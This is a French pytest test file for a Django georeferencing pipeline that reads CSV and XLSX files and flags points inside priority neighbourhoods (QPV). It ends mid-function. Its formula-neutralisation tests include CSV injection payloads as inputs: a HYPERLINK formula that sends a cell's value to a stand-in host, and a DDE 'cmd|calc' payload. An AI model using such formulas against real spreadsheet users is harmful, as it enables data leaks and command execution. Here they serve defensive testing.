"""Géoréférencement d'un fichier : lecture (encodages, séparateurs, XLSX), statuts, raisons, commande."""

import csv
import io
import re
import sys
import types

import numpy as np
import pytest
import shapely
from django.core.management import call_command
from django.core.management.base import CommandError
from openpyxl import Workbook

from cdv.georef import coords, engine, pipeline
from cdv.georef import writer as georef_writer
from cdv.georef.management.commands.georef import Command
from cdv.georef.pipeline import GeocodeResult, GeorefError, GeorefOptions, locate_points, run

pytestmark = [pytest.mark.django_db, pytest.mark.reference]

MONT_BLANC = (6.8652, 45.8326)


@pytest.fixture
def malakoff(db):
    """Un point du QPV Malakoff (Nantes), en longitude, latitude."""
    index = engine.get_index()
    geometry = index.geometries[list(index.codes).index("QN04413M")]
    lon, lat = shapely.get_coordinates(geometry.representative_point())[0]
    return float(lon), float(lat)


def read_output(path) -> tuple[str, list[list[str]]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 avec BOM, pour Excel
    text = raw.decode("utf-8-sig")
    sep = next(s for s in (";", "\t", "|", ",") if s in text.split("\n", 1)[0])
    return sep, list(csv.reader(io.StringIO(text, newline=""), delimiter=sep))


def lonlat(**kwargs) -> GeorefOptions:
    return GeorefOptions(mode="lonlat", lon="lon", lat="lat", **kwargs)


def test_every_row_kept_in_order_with_status_and_reason(tmp_path, malakoff):
    lon, lat = malakoff
    comma = f"{lon}".replace(".", ","), f"{lat}".replace(".", ",")
    source = (
        "id;nom;lon;lat;note\n"
        f"1;Malakoff;{lon};{lat};dedans\n"
        f'2;"Dupont; Jean";{comma[0]};{comma[1]};virgule décimale\n'
        f"3;inversé;{lat};{lon};\n"
        "4;hors limites;-1.55;147.2;\n"
        "5;vide;;;\n"
        "6;texte;abc;47.2;\n"
        "\n"
        "7;trop;1;2;3;4\n"
        f"8;Mont Blanc;{MONT_BLANC[0]};{MONT_BLANC[1]};\n"
        "9;Londres;-0.1276;51.5072;\n"
        "10;zéro;0;0;\n"
        "11;Lambert;355000;6689000;\n"
        "12;court;1\n"
        f"13; espaces ; {lon} ; {lat} ;\n"
    )
    (tmp_path / "in.csv").write_text(source, encoding="utf-8")
    summary = run(tmp_path / "in.csv", tmp_path / "out.csv", lonlat())
    sep, rows = read_output(tmp_path / "out.csv")
    assert sep == ";"
    assert rows[0] == ["id", "nom", "lon", "lat", "note", "code_qp", "lib_qp", "statut_qpv", "raison"]
    source_rows = list(csv.reader(io.StringIO(source), delimiter=";"))
    assert len(rows) == len(source_rows) == 15
    by_id = {}
    for original, row in zip(source_rows[1:], rows[1:], strict=True):
        assert len(row) == 9
        if len(original) == 5:
            assert row[:5] == original  # chaque cellule telle quelle
        by_id[row[0]] = row[5:]
    assert by_id["1"] == ["QN04413M", "Malakoff", "DANS_QPV", ""]
    assert by_id["2"][:3] == ["QN04413M", "Malakoff", "DANS_QPV"]
    assert by_id["3"][2] == "ENTREE_INVALIDE" and "inversées" in by_id["3"][3]
    assert by_id["4"][2:] == ["ENTREE_INVALIDE", coords.LONLAT_MESSAGES[coords.LAT_RANGE]]
    assert by_id["5"][2:] == ["ENTREE_INVALIDE", "longitude et latitude manquantes"]
    assert by_id["6"][2] == "ENTREE_INVALIDE" and "longitude non numérique" in by_id["6"][3]
    assert by_id[""] == ["", "", "ENTREE_INVALIDE", "ligne vide"]
    assert by_id["7"][2] == "ENTREE_INVALIDE" and "6 cellules au lieu de 5" in by_id["7"][3]
    assert "« 4 »" in by_id["7"][3]  # la cellule en trop n'est pas perdue
    assert by_id["8"] == ["", "", "HORS_QPV", ""]
    assert by_id["9"] == ["", "", "HORS_QPV", "point hors de France (métropole et outre-mer)"]
    assert by_id["10"][2:] == ["ENTREE_INVALIDE", "coordonnées nulles (0, 0)"]
    assert by_id["11"][2] == "ENTREE_INVALIDE" and "Lambert-93" in by_id["11"][3]
    assert by_id["12"][2] == "ENTREE_INVALIDE" and "3 cellule(s) au lieu de 5" in by_id["12"][3]
    assert by_id["13"][:3] == ["QN04413M", "Malakoff", "DANS_QPV"]  # espaces autour des nombres
    assert summary.rows == 14
    assert summary.in_qpv == 3
    assert summary.by_status == {
        "DANS_QPV": 3,
        "HORS_QPV": 2,
        "NON_GEOCODE": 0,
        "SCORE_FAIBLE": 0,
        "ENTREE_INVALIDE": 9,
    }
    assert summary.by_qpv == {"QN04413M": ("Malakoff", 3)}
    assert summary.share_in_qpv == pytest.approx(3 / 14)
    assert summary.encoding == "UTF-8" and summary.separator == ";"
    text = "\n".join(summary.lines())
    assert "14 ligne(s) traitée(s)" in text and "QN04413M Malakoff : 3" in text


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252", "utf-16"])
@pytest.mark.parametrize("sep", [",", ";", "\t", "|"])
def test_encodings_and_separators(tmp_path, malakoff, encoding, sep):
    lon, lat = malakoff
    rows = [
        ["nom", "lon", "lat", "commentaire"],
        ["Élodie", str(lon), str(lat), "à l'œil, « bien » ; 50 €"],
        ["Zoé", *map(str, MONT_BLANC), 'guillemets "doubles"'],
    ]
    text = io.StringIO()
    csv.writer(text, delimiter=sep, lineterminator="\r\n").writerows(rows)
    (tmp_path / "in.csv").write_bytes(text.getvalue().encode(encoding))
    summary = run(tmp_path / "in.csv", tmp_path / "out.csv", lonlat())
    out_sep, out = read_output(tmp_path / "out.csv")
    assert out_sep == sep and summary.separator == sep
    assert [row[:4] for row in out] == rows
    assert [row[6] for row in out[1:]] == ["DANS_QPV", "HORS_QPV"]


@pytest.mark.parametrize("chunk_size", [1, 2, 5, 100_000])
def test_quoted_newlines_crlf_and_blank_lines_across_small_blocks(
    tmp_path, malakoff, monkeypatch, chunk_size
):
    monkeypatch.setattr(pipeline, "MIN_BLOCK_BYTES", 7)  # blocs minuscules : chaque coupure est éprouvée
    lon, lat = malakoff
    source = (
        "id,lon,lat,texte\r\n"
        f'1,{lon},{lat},"sur\r\ndeux lignes"\r\n'
        f'2,{lon},{lat},"avec ""guillemets"", et virgule"\r\n'
        "\r\n"
        f"3,{MONT_BLANC[0]},{MONT_BLANC[1]},ligne après une ligne vide ééé\r\n"
        f'4,"{lon}","{lat}",coordonnées entre guillemets\r\n'
        f'5,{lon},{lat},pouce 5" sans guillemet ouvrant\r\n'
        f"6,{MONT_BLANC[0]},{MONT_BLANC[1]},dernière\r\n"
        "\r\n\r\n"
    )
    (tmp_path / "in.csv").write_bytes(source.encode("utf-8"))
    summary = run(tmp_path / "in.csv", tmp_path / "out.csv", lonlat(chunk_size=chunk_size))
    _, out = read_output(tmp_path / "out.csv")
    assert [row[0] for row in out] == [
        "id",
        "1",
        "2",
        "",
        "3",
        "4",
        "5",
        "6",
    ]  # les lignes vides finales en moins
    assert out[1][3] == "sur\r\ndeux lignes" or out[1][3] == "sur\ndeux lignes"
    assert out[2][3] == 'avec "guillemets", et virgule'
    assert out[5][3] == "coordonnées entre guillemets"
    assert out[6][3] == 'pouce 5" sans guillemet ouvrant'
    assert [row[6] for row in out[1:]] == [
        "DANS_QPV",
        "DANS_QPV",
        "ENTREE_INVALIDE",
        "HORS_QPV",
        "DANS_QPV",
        "DANS_QPV",
        "HORS_QPV",
    ]
    assert summary.rows == 7


def test_xlsx_input(tmp_path, malakoff):
    lon, lat = malakoff
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["structure", "longitude", "latitude", "effectif", "date"])
    sheet.append(["Centre social", lon, lat, 12, None])
    sheet.append([None, None, None, None, None])
    sheet.append(["Virgule", f"{lon}".replace(".", ","), f"{lat}".replace(".", ","), 3.5, None])
    sheet.append(["Ailleurs", MONT_BLANC[0], MONT_BLANC[1]])
    sheet.append([None, None, None])
    workbook.save(tmp_path / "in.xlsx")
    summary = run(
        tmp_path / "in.xlsx",
        tmp_path / "out.csv",
        GeorefOptions(mode="lonlat", lon="Longitude", lat="LATITUDE"),
    )
    sep, out = read_output(tmp_path / "out.csv")
    assert sep == ";" and summary.encoding == "XLSX"
    assert out[0] == [
        "structure",
        "longitude",
        "latitude",
        "effectif",
        "date",
        "code_qp",
        "lib_qp",
        "statut_qpv",
        "raison",
    ]
    assert out[1][0] == "Centre social" and out[1][3] == "12"
    assert float(out[1][1]) == pytest.approx(lon, abs=1e-12) and float(out[1][2]) == pytest.approx(
        lat, abs=1e-12
    )
    assert [row[7] for row in out[1:]] == ["DANS_QPV", "ENTREE_INVALIDE", "DANS_QPV", "HORS_QPV"]
    assert out[2][8] == "ligne vide"
    assert out[3][3] == "3.5"
    assert summary.rows == 4  # la ligne vide finale n'est pas une ligne


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "le fichier est vide"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00" * 20, "données binaires"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "Format XLS"),
        (b"PK\x03\x04 pas vraiment un classeur", "le classeur XLSX ne s'ouvre pas"),
        (b"\n\nlon;lat\n1;2\n", "la première ligne"),
    ],
)
def test_unreadable_file_gives_one_french_error(tmp_path, content, message):
    (tmp_path / "in.csv").write_bytes(content)
    with pytest.raises(GeorefError, match=message) as caught:
        run(tmp_path / "in.csv", tmp_path / "out.csv", lonlat())
    assert str(caught.value).startswith(("Fichier illisible", "Format XLS"))
    assert not (tmp_path / "out.csv").exists()
    assert not list(tmp_path.glob("*.partiel"))


def test_missing_file_and_missing_column(tmp_path):
    with pytest.raises(GeorefError, match="Fichier introuvable"):
        run(tmp_path / "absent.csv", tmp_path / "out.csv", lonlat())
    (tmp_path / "in.csv").write_text("longitude;lat\n1;2\n")
    with pytest.raises(
        GeorefError, match=r"Colonne de longitude « lon » introuvable.*« longitude », « lat »"
    ):
        run(tmp_path / "in.csv", tmp_path / "out.csv", lonlat())
    with pytest.raises(GeorefError, match="Géographie prioritaire inconnue"):
        run(tmp_path / "in.csv", tmp_path / "out.csv", lonlat(geography="2020"))
    with pytest.raises(GeorefError, match="contours des QPV de la géographie 2015 ne sont pas chargés"):
        run(tmp_path / "in.csv", tmp_path / "out.csv", lonlat(geography="2015"))


def test_output_is_idempotent(tmp_path, malakoff):
    lon, lat = malakoff
    (tmp_path / "in.csv").write_text(
        f"id,lon,lat\n1,{lon},{lat}\n2,abc,1\n3,{MONT_BLANC[0]},{MONT_BLANC[1]}\n"
    )
    run(tmp_path / "in.csv", tmp_path / "a.csv", lonlat())
    run(tmp_path / "in.csv", tmp_path / "b.csv", lonlat())
    assert (tmp_path / "a.csv").read_bytes() == (tmp_path / "b.csv").read_bytes()
    # relancé sur sa propre sortie : les colonnes ajoutées sont remplacées, pas dupliquées
    run(tmp_path / "a.csv", tmp_path / "c.csv", lonlat())
    assert (tmp_path / "c.csv").read_bytes() == (tmp_path / "a.csv").read_bytes()


def test_progress_is_reported(tmp_path, malakoff, monkeypatch):
    monkeypatch.setattr(pipeline, "MIN_BLOCK_BYTES", 64)
    lines = "".join(f"{i},{MONT_BLANC[0]},{MONT_BLANC[1]}\n" for i in range(200))
    (tmp_path / "in.csv").write_text("id,lon,lat\n" + lines)
    calls = []
    run(
        tmp_path / "in.csv",
        tmp_path / "out.csv",
        lonlat(chunk_size=10),
        progress=lambda d, t: calls.append((d, t)),
    )
    assert len(calls) > 5
    assert [d for d, _ in calls] == sorted(d for d, _ in calls)
    assert all(t is None or t >= d for d, t in calls)
    assert calls[-1] == (200, 200)


def test_lambert93(tmp_path, malakoff):
    lon, lat = coords.lambert93_to_wgs84(np.array([700_000.0]), np.array([6_600_000.0]))
    assert lon[0] == pytest.approx(3.0, abs=1e-9) and lat[0] == pytest.approx(46.5, abs=1e-9)  # origine
    from pyproj import Transformer

    x, y = Transformer.from_crs(4326, 2154, always_xy=True).transform(*malakoff)
    assert 355_000 < x < 358_000 and 6_688_000 < y < 6_691_000  # Nantes
    (tmp_path / "in.csv").write_text(
        f"X;Y\n{x:.2f};{y:.2f}\n{y:.2f};{x:.2f}\n{malakoff[0]};{malakoff[1]}\n5000000;1\n;\n"
    )
    run(tmp_path / "in.csv", tmp_path / "out.csv", GeorefOptions(mode="xy", x="X", y="Y"))
    _, out = read_output(tmp_path / "out.csv")
    assert out[1][2:5] == ["QN04413M", "Malakoff", "DANS_QPV"]
    assert out[2][4] == "ENTREE_INVALIDE" and "x et y semblent inversés" in out[2][5]
    assert "valeurs en degrés" in out[3][5]
    assert "hors de l'emprise du Lambert-93" in out[4][5]
    assert out[5][5] == "x et y manquants"


class FakeGeocoder:
    def __init__(self, answers):
        self.answers, self.batches = answers, []

    def geocode(self, batch):
        self.batches.append(batch)
        return [self.answers.get(query["address"]) for query in batch]


def test_addresses_with_a_geocoder(tmp_path, malakoff):
    lon, lat = malakoff
    geocoder = FakeGeocoder(
        {
            "12 rue de Malakoff": GeocodeResult(lon, lat, 0.93, "12 Rue de Malakoff 44000 Nantes"),
            "1 chemin incertain": GeocodeResult(lon, lat, 0.31, "Chemin Incertain 44000 Nantes"),
            "3 rue du Mont Blanc": GeocodeResult(*MONT_BLANC, 0.88, "3 Rue du Mont Blanc 74400 Chamonix"),
        }
    )
    (tmp_path / "in.csv").write_text(
        "num;voie;cp;ville\n"
        "12;rue de Malakoff;44000;Nantes\n"
        "1;chemin incertain;44000;Nantes\n"
        "3;rue du Mont Blanc;74400;Chamonix\n"
        "9;rue inconnue;44000;Nantes\n"
        ";;44000;Nantes\n"
        "12;rue de  Malakoff;44000;Nantes\n"
    )
    options = GeorefOptions(mode="address", address_columns=["num", "voie"], postcode="cp", city="ville")
    summary = run(tmp_path / "in.csv", tmp_path / "out.csv", options, geocoder=geocoder)
    _, out = read_output(tmp_path / "out.csv")
    assert out[0][4:] == OUTPUT_HEADER
    assert out[1][4:] == [
        "QN04413M",
        "Malakoff",
        "DANS_QPV",
        "",
        "0.93",
        "12 Rue de Malakoff 44000 Nantes",
        f"{lon:.6f}",
        f"{lat:.6f}",
    ]
    assert out[2][6] == "SCORE_FAIBLE" and out[2][4] == ""
    assert "score de géocodage 0.31 inférieur au seuil 0.50" in out[2][7] and "QN04413M" in out[2][7]
    assert out[3][4:7] == ["", "", "HORS_QPV"]
    assert out[4][6:8] == ["NON_GEOCODE", "adresse introuvable dans la Base adresse nationale"]
    assert out[5][6:8] == ["ENTREE_INVALIDE", "adresse vide"]
    assert out[6][4:7] == ["QN04413M", "Malakoff", "DANS_QPV"]
    # une seule requête par adresse distincte, avec code postal et commune
    assert len(geocoder.batches) == 1 and len(geocoder.batches[0]) == 4
    assert geocoder.batches[0][0] == {"address": "12 rue de Malakoff", "postcode": "44000", "city": "Nantes"}
    assert summary.by_status["SCORE_FAIBLE"] == 1 and summary.in_qpv == 2


OUTPUT_HEADER = pipeline.OUTPUT_COLUMNS + pipeline.ADDRESS_OUTPUT_COLUMNS


class BrokenGeocoder:
    def geocode(self, batch):
        raise ConnectionError("délai dépassé")


@pytest.mark.parametrize(
    ("geocoder", "reason"),
    [(None, "géocodeur indisponible"), (BrokenGeocoder(), "erreur du géocodeur : délai dépassé")],
)
def test_addresses_without_a_working_geocoder(tmp_path, geocoder, reason):
    (tmp_path / "in.csv").write_text("adresse\n12 rue de Malakoff 44000 Nantes\n\n")
    summary = run(
        tmp_path / "in.csv",
        tmp_path / "out.csv",
        GeorefOptions(mode="address", address_columns=["adresse"]),
        geocoder=geocoder,
    )
    _, out = read_output(tmp_path / "out.csv")
    assert out[1][3:5] == ["NON_GEOCODE", reason]
    assert summary.by_status["NON_GEOCODE"] == 1


def test_locate_points_for_the_api(malakoff):
    results = locate_points(
        [malakoff, MONT_BLANC, (malakoff[1], malakoff[0]), (None, 47.0), ("abc", 1), (1,)]
    )
    assert results[0] == {"code_qp": "QN04413M", "lib_qp": "Malakoff", "statut_qpv": "DANS_QPV", "raison": ""}
    assert results[1] == {"code_qp": "", "lib_qp": "", "statut_qpv": "HORS_QPV", "raison": ""}
    assert [r["statut_qpv"] for r in results[2:]] == ["ENTREE_INVALIDE"] * 4
    assert "inversées" in results[2]["raison"]
    assert results[3]["raison"] == "longitude manquante"
    assert locate_points([]) == []


def test_command(tmp_path, malakoff):
    lon, lat = malakoff
    (tmp_path / "in.csv").write_text(f"id;lon;lat\n1;{lon};{lat}\n2;{MONT_BLANC[0]};{MONT_BLANC[1]}\n")
    stdout, stderr = io.StringIO(), io.StringIO()
    call_command(
        Command(),
        str(tmp_path / "in.csv"),
        "-o",
        str(tmp_path / "out.csv"),
        "--lon",
        "lon",
        "--lat",
        "lat",
        stdout=stdout,
        stderr=stderr,
    )
    _, out = read_output(tmp_path / "out.csv")
    assert [row[5] for row in out[1:]] == ["DANS_QPV", "HORS_QPV"]
    assert "2 ligne(s) traitée(s)" in stdout.getvalue()
    assert "dans un QPV (DANS_QPV) : 1 (50\u00a0%)" in stdout.getvalue()
    assert "QN04413M Malakoff : 1" in stdout.getvalue()
    assert "Géoréférencement" in stderr.getvalue()  # la barre de progression
    # colonnes devinées
    stdout = io.StringIO()
    call_command(
        Command(),
        str(tmp_path / "in.csv"),
        "-o",
        str(tmp_path / "out2.csv"),
        stdout=stdout,
        stderr=io.StringIO(),
    )
    assert "Colonnes devinées : longitude « lon », latitude « lat »" in stdout.getvalue()
    assert (tmp_path / "out2.csv").read_bytes() == (tmp_path / "out.csv").read_bytes()


def test_command_errors_are_french(tmp_path):
    (tmp_path / "in.csv").write_text("a;b\n1;2\n")
    with pytest.raises(CommandError, match="Colonne de longitude « lon » introuvable"):
        call_command(
            Command(), str(tmp_path / "in.csv"), "-o", str(tmp_path / "o.csv"), "--lon", "lon", "--lat", "b"
        )
    with pytest.raises(CommandError, match="Colonnes à lire non reconnues"):
        call_command(Command(), str(tmp_path / "in.csv"), "-o", str(tmp_path / "o.csv"))
    with pytest.raises(CommandError, match="un seul mode"):
        call_command(
            Command(), str(tmp_path / "in.csv"), "-o", "o.csv", "--lon", "a", "--lat", "b", "--x", "a"
        )
    (tmp_path / "bin.csv").write_bytes(b"\x00\x01\x02\x03" * 100)
    with pytest.raises(CommandError, match="Fichier illisible"):
        call_command(
            Command(), str(tmp_path / "bin.csv"), "-o", str(tmp_path / "o.csv"), "--lon", "a", "--lat", "b"
        )


def test_command_address_mode_uses_the_ban_geocoder_when_present(tmp_path, malakoff, monkeypatch):
    (tmp_path / "in.csv").write_text("adresse;cp\n12 rue de Malakoff;44000\n")
    args = [
        str(tmp_path / "in.csv"),
        "-o",
        str(tmp_path / "out.csv"),
        "--address",
        "adresse",
        "--postcode",
        "cp",
    ]
    monkeypatch.setitem(sys.modules, "cdv.georef.ban", None)  # module absent : ImportError
    stderr = io.StringIO()
    call_command(Command(), *args, "--no-progress", stdout=io.StringIO(), stderr=stderr)
    assert "Géocodeur BAN indisponible" in stderr.getvalue()
    assert read_output(tmp_path / "out.csv")[1][1][4:6] == ["NON_GEOCODE", "géocodeur indisponible"]

    lon, lat = malakoff
    fake = types.ModuleType("cdv.georef.ban")
    fake.BanGeocoder = lambda: FakeGeocoder(
        {"12 rue de Malakoff": GeocodeResult(lon, lat, 0.95, "12 Rue de Malakoff")}
    )
    monkeypatch.setitem(sys.modules, "cdv.georef.ban", fake)
    call_command(Command(), *args, "--no-progress", stdout=io.StringIO(), stderr=io.StringIO())
    assert read_output(tmp_path / "out.csv")[1][1][2:5] == ["QN04413M", "Malakoff", "DANS_QPV"]


def test_trailing_separators_are_tolerated(tmp_path, malakoff):
    lon, lat = malakoff
    (tmp_path / "in.csv").write_text(f"lon;lat;\n{lon};{lat}\n{lon};{lat};;\n{lon};{lat};;x\n")
    run(tmp_path / "in.csv", tmp_path / "out.csv", lonlat())
    _, out = read_output(tmp_path / "out.csv")
    assert out[0] == ["lon", "lat", "", "code_qp", "lib_qp", "statut_qpv", "raison"]
    assert out[1] == [str(lon), str(lat), "", "QN04413M", "Malakoff", "DANS_QPV", ""]
    assert out[2] == out[1]
    assert out[3][5:] == ["ENTREE_INVALIDE", "la ligne compte 4 cellules au lieu de 3 ; en trop : « x »"]


@pytest.fixture
def csv_default_field_limit():
    """La limite par défaut du module csv (128 Kio par cellule), celle d'un processus du produit :
    frictionless (tests de l'export SCDL, lancés avant dans le même processus) la relève pour tout
    le processus en se chargeant."""
    import csv

    previous = csv.field_size_limit(128 * 1024)
    yield
    csv.field_size_limit(previous)


def test_old_mac_line_endings_and_a_huge_cell(tmp_path, malakoff, csv_default_field_limit):
    lon, lat = malakoff
    (tmp_path / "mac.csv").write_bytes(
        f"lon;lat;note\r{lon};{lat};a\r{MONT_BLANC[0]};{MONT_BLANC[1]};b\r".encode()
    )
    run(tmp_path / "mac.csv", tmp_path / "out.csv", lonlat())
    _, out = read_output(tmp_path / "out.csv")
    assert [row[5] for row in out[1:]] == ["DANS_QPV", "HORS_QPV"]
    huge = "x" * 200_000  # au-delà de la limite du module csv (128 Kio) : la ligne est gardée, refusée
    (tmp_path / "huge.csv").write_text(f'lon;lat;note\n{lon};{lat};"{huge}\n"\n{lon};{lat};ok\n')
    summary = run(tmp_path / "huge.csv", tmp_path / "out.csv", lonlat())
    assert summary.rows >= 2 and summary.in_qpv == 1
    text = (tmp_path / "out.csv").read_text(encoding="utf-8-sig")
    assert huge in text and "ligne illisible" in text


def test_unwritable_output_gives_a_french_error(tmp_path):
    (tmp_path / "in.csv").write_text("lon;lat\n1;2\n")
    with pytest.raises(GeorefError, match="Impossible d'écrire le fichier de sortie"):
        run(tmp_path / "in.csv", tmp_path / "absent" / "out.csv", lonlat())


# --- sortie XLSX -----------------------------------------------------------------------------------


def read_xlsx(path) -> list[list]:
    from openpyxl import load_workbook

    with open(path, "rb") as handle:  # quel que soit le nom du fichier
        workbook = load_workbook(handle)
        return [list(row) for row in workbook.active.iter_rows(values_only=True)]


def xlsx_types(path) -> set[str]:
    """Types des cellules non vides (« s » texte, « inlineStr », « f » formule, « e » erreur…)."""
    from openpyxl import load_workbook

    workbook = load_workbook(path)
    return {cell.data_type for row in workbook.active.iter_rows() for cell in row if cell.value is not None}


def test_xlsx_output_keeps_every_row_and_cell_as_text(tmp_path, malakoff):
    lon, lat = malakoff
    source = (
        "id;nom;lon;lat;note\n"
        f'047;=HYPERLINK("http://x");{lon};{lat};#N/A\n'
        f'2;"Dupont; Jean";{MONT_BLANC[0]};{MONT_BLANC[1]};+33 6 12\n'
        "3;@SUM(A1);abc;47.2;-2+3\n"
        "\n"
        "4;trop;1;2;3;4\n"
        f"5;tiret -1;-1.5536;47.2184;-0.5\n"
    )
    (tmp_path / "in.csv").write_text(source, encoding="utf-8")
    as_csv = run(tmp_path / "in.csv", tmp_path / "out.csv", lonlat())
    as_xlsx = run(tmp_path / "in.csv", tmp_path / "out.xlsx", lonlat())
    assert not list(tmp_path.glob("*.partiel"))
    assert (as_xlsx.rows, as_xlsx.by_status, as_xlsx.by_qpv) == (as_csv.rows, as_csv.by_status, as_csv.by_qpv)

    rows = read_xlsx(tmp_path / "out.xlsx")
    _, csv_rows = read_output(tmp_path / "out.csv")
    assert rows[0] == ["id", "nom", "lon", "lat", "note", "code_qp", "lib_qp", "statut_qpv", "raison"]
    assert len(rows) == len(csv_rows) == 7
    # mêmes cellules que le CSV, une cellule vide restant vide ; le CSV protège les formules par une
    # apostrophe, le XLSX les garde telles quelles dans des cellules texte…
    neutralised = {'=HYPERLINK("http://x")', "+33 6 12", "@SUM(A1)", "-2+3"}
    assert {c for row in csv_rows for c in row if c.startswith("'")} == {"'" + c for c in neutralised}
    for xlsx_row, csv_row in zip(rows, csv_rows, strict=True):
        expected = [c[1:] if c[1:] in neutralised else (c or None) for c in csv_row]
        assert xlsx_row == expected
    assert rows[1][1] == '=HYPERLINK("http://x")'
    # … en texte : « 047 » reste « 047 », un nombre négatif garde son signe,
    # « #N/A » est du texte (pas une erreur), aucune formule.
    assert (
        rows[1][0] == "047" and rows[1][4] == "#N/A" and rows[1][5:8] == ["QN04413M", "Malakoff", "DANS_QPV"]
    )
    assert rows[6][2:5] == ["-1.5536", "47.2184", "-0.5"]
    assert rows[4] == [None] * 7 + ["ENTREE_INVALIDE", "ligne vide"]
    assert xlsx_types(tmp_path / "out.xlsx") <= {"s", "inlineStr"}


def test_xlsx_output_of_an_xlsx_input_and_rerun_on_its_own_output(tmp_path, malakoff):
    lon, lat = malakoff
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["structure", "longitude", "latitude", "effectif"])
    sheet.append(["=1+1", lon, lat, 12])
    sheet["A2"].data_type = "s"  # du texte qui ressemble à une formule, pas une formule
    sheet.append(["Ailleurs", MONT_BLANC[0], MONT_BLANC[1], None])
    workbook.save(tmp_path / "in.xlsx")
    options = GeorefOptions(mode="lonlat", lon="longitude", lat="latitude")
    run(tmp_path / "in.xlsx", tmp_path / "a.xlsx", options)
    first = read_xlsx(tmp_path / "a.xlsx")
    assert first[1][0] == "=1+1" and first[1][3] == "12" and first[1][6] == "DANS_QPV"
    assert xlsx_types(tmp_path / "a.xlsx") == {"s"}  # du texte, pas une formule
    # relancé sur sa propre sortie : mêmes lignes et mêmes cellules (colonnes ajoutées remplacées)
    run(tmp_path / "a.xlsx", tmp_path / "b.xlsx", options)
    assert read_xlsx(tmp_path / "b.xlsx") == first
    run(tmp_path / "a.xlsx", tmp_path / "b.csv", options)
    assert read_output(tmp_path / "b.csv")[1][1][0] == "'=1+1"  # protégée en CSV aussi


def test_xlsx_output_format_can_be_forced_and_is_checked(tmp_path, malakoff):
    lon, lat = malakoff
    (tmp_path / "in.csv").write_text(f"lon;lat\n{lon};{lat}\n")
    run(tmp_path / "in.csv", tmp_path / "resultat.bin", lonlat(), output_format="xlsx")
    assert read_xlsx(tmp_path / "resultat.bin")[1][2:5] == ["QN04413M", "Malakoff", "DANS_QPV"]
    run(tmp_path / "in.csv", tmp_path / "RESULTAT.XLSX", lonlat())
    assert (tmp_path / "RESULTAT.XLSX").read_bytes().startswith(b"PK")
    run(tmp_path / "in.csv", tmp_path / "r.xlsx", lonlat(), output_format="csv")
    assert read_output(tmp_path / "r.xlsx")[1][1][4] == "DANS_QPV"
    with pytest.raises(GeorefError, match="Format de sortie inconnu « ods »"):
        run(tmp_path / "in.csv", tmp_path / "r.ods", lonlat(), output_format="ods")


def test_xlsx_output_limits_give_a_french_error_and_no_file(tmp_path, monkeypatch):
    (tmp_path / "in.csv").write_text("lon;lat;note\n" + "".join(f"-1.5;47.2;{k}\n" for k in range(50)))
    monkeypatch.setattr(georef_writer, "XLSX_MAX_ROWS", 20)
    with pytest.raises(GeorefError, match="limite d'une feuille Excel : choisissez la sortie CSV"):
        run(tmp_path / "in.csv", tmp_path / "out.xlsx", lonlat(chunk_size=10))
    assert not list(tmp_path.glob("out.xlsx*"))
    monkeypatch.setattr(georef_writer, "XLSX_MAX_ROWS", 1_048_576)
    (tmp_path / "long.csv").write_text("lon;lat;note\n-1.5;47.2;" + "x" * 40_000 + "\n")
    with pytest.raises(GeorefError, match="plus que la limite d'Excel"):
        run(tmp_path / "long.csv", tmp_path / "out.xlsx", lonlat())
    (tmp_path / "wide.csv").write_text(";".join(["lon", "lat"] + ["c"] * 16_400) + "\n")
    with pytest.raises(GeorefError, match="colonnes, plus que la limite d'Excel"):
        run(tmp_path / "wide.csv", tmp_path / "out.xlsx", lonlat())
    assert not list(tmp_path.glob("out.xlsx*"))


def test_command_writes_xlsx_when_asked(tmp_path, malakoff):
    lon, lat = malakoff
    (tmp_path / "in.csv").write_text(f"id;lon;lat\n1;{lon};{lat}\n2;{MONT_BLANC[0]};{MONT_BLANC[1]}\n")
    stdout = io.StringIO()
    call_command(
        Command(), str(tmp_path / "in.csv"), "-o", str(tmp_path / "out.xlsx"), "--no-progress", stdout=stdout
    )
    assert "Résultat écrit dans" in stdout.getvalue()
    rows = read_xlsx(tmp_path / "out.xlsx")
    assert [row[5] for row in rows] == ["statut_qpv", "DANS_QPV", "HORS_QPV"]


def test_command_line_run_ends_the_process_at_once(tmp_path, malakoff, monkeypatch):
    """``manage.py georef`` : le travail fini, le processus s'arrête sans démonter l'interpréteur,
    après avoir fermé les connexions, appelé les fonctions de sortie et vidé les sorties."""
    import atexit

    from django.db import connections

    lon, lat = malakoff
    (tmp_path / "in.csv").write_text(f"lon;lat\n{lon};{lat}\n")
    calls = []

    class Exited(Exception):
        pass

    def fake_exit(code):
        calls.append(("exit", code))
        raise Exited

    monkeypatch.setattr(connections, "close_all", lambda: calls.append(("close_all",)))
    monkeypatch.setattr(atexit, "_run_exitfuncs", lambda: calls.append(("atexit",)))
    monkeypatch.setattr("cdv.georef.management.commands.georef.gc.freeze", lambda: calls.append(("freeze",)))
    monkeypatch.setattr("cdv.georef.management.commands.georef.os._exit", fake_exit)
    command = Command(stdout=io.StringIO(), stderr=io.StringIO())
    with pytest.raises(Exited):
        command.run_from_argv(
            ["manage.py", "georef", str(tmp_path / "in.csv"), "-o", str(tmp_path / "o.csv")]
        )
    assert read_output(tmp_path / "o.csv")[1][1][4] == "DANS_QPV"
    assert calls[0] == ("freeze",) and calls[-3:] == [("close_all",), ("atexit",), ("exit", 0)]
    # une erreur, elle, sort normalement (message et code de retour de Django)
    calls.clear()
    with pytest.raises(SystemExit) as stop:
        command.run_from_argv(
            ["manage.py", "georef", str(tmp_path / "absent.csv"), "-o", str(tmp_path / "x.csv")]
        )
    assert stop.value.code == 1 and ("exit", 0) not in calls


# --- formules : jamais exécutées à l'ouverture du résultat dans un tableur ---------------------------

FORMULAS = [
    '=HYPERLINK("http://exemple.invalid/?v="&A2,"Cliquez")',
    "@SUM(1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
]


@pytest.mark.parametrize("multiline", [False, True], ids=["lignes-simples", "cellule-sur-deux-lignes"])
@pytest.mark.parametrize("sep", [";", ",", "\t"])
def test_csv_output_neutralises_formulas_but_keeps_numbers(tmp_path, malakoff, multiline, sep):
